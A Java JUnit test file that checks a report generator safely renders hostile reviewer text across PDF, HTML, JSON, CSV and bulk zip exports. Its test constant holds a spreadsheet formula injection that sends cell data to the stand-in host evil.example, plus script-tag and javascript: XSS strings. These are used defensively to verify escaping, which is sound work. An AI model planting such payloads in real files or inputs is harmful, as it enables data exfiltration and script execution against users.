package org.lexgap.report.control;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lexgap.assessment.entity.Finding;
import org.lexgap.assessment.entity.Level;
import org.lexgap.assessment.entity.Status;
import org.lexgap.corpus.control.CountryProfile;
import org.lexgap.json.Mappers;
import org.lexgap.report.entity.CountryReport;
import org.lexgap.report.entity.ReportFormat;

/**
 * Whatever text a reviewer's finding holds (stored before the boundary refused such text): every report format
 * renders, the PDF opens, no CSV cell starts a formula, and the bulk zip is complete even when a report fails.
 */
class HostileTextReportTest {

    static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"source\") bell \u0007 nul \u0000 "
            + "esc \u001B nonchar \uFFFE \uFFFF lone \uD800 and \uDC00 <script>alert(1)</script>";

    @TempDir
    static Path temp;

    static ReportFixtures fixtures;

    @BeforeAll
    static void load() {
        fixtures = new ReportFixtures(temp);
    }

    static CountryReport hostileReport() {
        CountryProfile profile = fixtures.corpus.country("XA").orElseThrow();
        Map<String, Finding> findings = new java.util.HashMap<>();
        String[] starts = {"=", "+", "-", "@", "\t", "\r"};
        List<String> criteria = fixtures.checklist.criteria().map(c -> c.id()).toList();
        for (int i = 0; i < criteria.size(); i++) {
            String rationale = (i == 0 ? "" : starts[i % starts.length] + "1+1 ") + HOSTILE;
            findings.put(criteria.get(i), new Finding("XA", criteria.get(i), Level.PARTLY, Status.REVIEWED,
                    List.of(), rationale, List.of("javascript:alert(1)"), "mallory\u0007", null,
                    fixtures.checklist.version(), Instant.parse("2026-11-01T00:00:00Z"), Finding.STORE));
        }
        return fixtures.reports.country(fixtures.engine.assess(profile, fixtures.checklist, findings), profile,
                fixtures.checklist);
    }

    @Test
    void everyFormatRendersAndThePdfOpens() throws Exception {
        CountryReport report = hostileReport();
        try (PDDocument pdf = Loader.loadPDF(ReportRenderer.render(report, ReportFormat.PDF))) {
            assertTrue(pdf.getNumberOfPages() > 3);
        }
        String html = new String(ReportRenderer.render(report, ReportFormat.HTML), StandardCharsets.UTF_8);
        assertFalse(html.contains("<script>alert"), "escaped");
        assertFalse(html.contains("\u0007") || html.contains("\u0000"), "cleaned");
        assertTrue(html.contains("bell \uFFFD nul"), "replaced, not dropped silently");
        Mappers.json().readTree(ReportRenderer.render(report, ReportFormat.JSON));
        assertNoFormula(ReportRenderer.render(report, ReportFormat.CSV));
        assertNoFormula(ReportRenderer.render(fixtures.reports.comparison(List.of(report.assessment()),
                fixtures.checklist), ReportFormat.CSV));
        try (PDDocument pdf = Loader.loadPDF(ReportRenderer.render(fixtures.reports.comparison(
                List.of(report.assessment()), fixtures.checklist), ReportFormat.PDF))) {
            assertTrue(pdf.getNumberOfPages() >= 1);
        }
    }

    @Test
    void theBulkZipIsCompleteWhenAReportFails() throws Exception {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        List<String> failed = BulkExport.write(List.of("XA", "XB", "XC"), code -> {
            if (code.equals("XB")) {
                throw new IllegalStateException("a report that cannot be made");
            }
            return code.equals("XA") ? hostileReport() : fixtures.report(code);
        }, zip, BulkExport.Progress.NONE);

        assertEquals(List.of("XB"), failed);
        List<String> names = new ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip.toByteArray()))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                names.add(e.getName());
                byte[] content = in.readAllBytes();
                if (e.getName().endsWith(".pdf")) {
                    try (PDDocument pdf = Loader.loadPDF(content)) {
                        assertTrue(pdf.getNumberOfPages() > 3, e.getName());
                    }
                }
            }
        }
        assertEquals(List.of("lexgap-XA-thbor-1.0.pdf", "lexgap-XB-error.txt", "lexgap-XC-thbor-1.0.pdf"), names);
    }

    @Test
    void aFirstReportThatFailsFailsBeforeTheZipStarts() {
        BulkExport export = new BulkExport(List.of("XA"), code -> {
            throw new IllegalStateException("no report");
        }, BulkExport.Progress.NONE);
        org.junit.jupiter.api.Assertions.assertThrows(IllegalStateException.class, export::prepare);
    }

    static void assertNoFormula(byte[] csv) throws Exception {
        CsvMapper mapper = new CsvMapper();
        mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        int cells = 0;
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv)) {
            while (rows.hasNext()) {
                for (String cell : rows.next()) {
                    cells++;
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "formula: " + cell);
                }
            }
        }
        assertTrue(cells > 20, "cells read: " + cells);
    }
}
